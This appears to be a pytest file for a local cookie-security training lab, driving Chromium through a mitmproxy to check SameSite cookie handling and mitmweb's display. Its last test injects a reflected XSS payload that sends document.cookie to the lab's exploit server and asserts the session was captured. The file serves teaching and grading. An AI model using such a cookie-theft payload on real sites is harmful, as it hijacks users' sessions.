"""The real containers in Chromium (first in this tier, before the crash test empties mitmweb), at the addresses the README gives: the start page, the
second site's cross-site link, and mitmweb's flow list readable at 1400x900."""

import json
from urllib.parse import quote

import pytest
from engines import SHOTS, ChromiumTab, chromium_session
from local_lab import wait_until
from tiers import must_run

pytestmark = pytest.mark.compose


@pytest.fixture(scope="module")
def chromium():
    """Chromium for this tier: where the compose tier is required, a browser that cannot run fails it too."""
    session = chromium_session()
    try:
        browser = next(session)
    except pytest.skip.Exception as skipped:
        # chromium_session skips unless the browsers are required; these tests belong to the compose tier as well.
        must_run("LAB_REQUIRE_COMPOSE", skipped.msg)
    yield browser
    session.close()


@pytest.fixture
def tab(chromium):
    tab = ChromiumTab(chromium)
    yield tab
    tab.close()


def capture_lines(lab) -> list[dict]:
    out = lab.compose("exec", "-T", "proxy", "cat", "/captures/cookies.jsonl").stdout
    return [json.loads(line) for line in out.splitlines()]


def captured(lab) -> list[dict]:
    """The capture's flow records (a line of kind exploit_log records a step the exploit server's log met)."""
    return [record for record in capture_lines(lab) if "kind" not in record]


def test_the_second_sites_link_carries_the_lax_cookie_through_the_proxy(lab, seed_up, tab):
    SHOTS.mkdir(parents=True, exist_ok=True)
    tab.goto(f"http://127.0.0.1:{lab.proxy_port}/flags/set")
    tab.goto(f"http://127.0.0.1:{lab.proxy_port}/lab/")
    tab.screenshot(SHOTS / "compose-start-page.png")
    tab.goto(f"http://site.localhost:{lab.site_port}/")
    assert tab.text("#site-received") == "(no Cookie header)"
    tab.screenshot(SHOTS / "compose-second-site.png")
    tab.click("#send-link")
    record = wait_until(
        lambda: next((r for r in captured(lab) if r["path"] == "/flags/?via=link"), None),
        15,
        "the via=link flow in the capture file",
    )
    assert [c["name"] for c in record["request_cookies"]] == ["plain", "secret", "nojs", "lax", "cross"]


def test_mitmwebs_flow_list_shows_the_seeds_cookie_events_in_full(lab, seed_up, tab):
    SHOTS.mkdir(parents=True, exist_ok=True)
    tab.goto(f"http://localhost:{lab.web_port}/?token={lab.password}")
    cells = tab.page.locator("tbody tr td.col-comment")
    seed = "Cookie: username=Alice | Set-Cookie: username=Alice; Path=/"
    wait_until(lambda: seed in cells.all_inner_texts(), 15, "the seed's flows in mitmweb's list")
    # Readable in the list itself: no seed comment is cut at the column's edge.
    first = "Cookie: (none) | Set-Cookie: username=Alice; Path=/"
    cut = tab.page.evaluate(
        """(seed) => [...document.querySelectorAll("tbody td.col-comment")]
             .filter((td) => seed.includes(td.textContent) && td.scrollWidth > td.clientWidth)
             .map((td) => td.textContent)""",
        [first, seed],
    )
    tab.screenshot(SHOTS / "compose-mitmweb-flow-list.png")
    assert cut == []


def test_sheet_12_end_to_end_the_session_leaves_through_the_site_and_the_proxy_grades_it(lab, seed_up, tab):
    """The XSS lab on the real containers: the app's state volume, the site's exploit volume, which the
    proxy's grader reads, and the learner's browser as the only path between the site and the app."""
    app, site = f"http://127.0.0.1:{lab.proxy_port}", f"http://site.localhost:{lab.site_port}"
    tab.goto(app + "/xss/")
    if "<strong>on</strong>" in tab.js("document.getElementById('switch-httponly').innerHTML"):
        tab.click("#flip-httponly")
    tab.click("#login")
    payload = f"<script>new Image().src='{site}/log/steal?c='+encodeURIComponent(document.cookie)</script>"
    tab.goto(f"{app}/xss/search?q={quote(payload)}")
    tab.goto(site + "/exploit-server/log")
    assert "lab_session" in tab.text("main")
    record = wait_until(
        lambda: next((r for r in capture_lines(lab) if "12-session-to-the-log" in r.get("solved", [])), None),
        15,
        "the exploit server's solve in the capture file",
    )
    assert record["kind"] == "exploit_log" and record["exploit_request"]["path"] == "/log/steal"
    page = next(r for r in captured(lab) if r["flow_id"] == record["flow_id"])
    assert page["path"].startswith("/xss/search?q=")
    logs = lab.compose("logs", "proxy").stdout
    assert "reached the exploit server's log" in logs and "Cookie Lab: solved 12-session-to-the-log" in logs
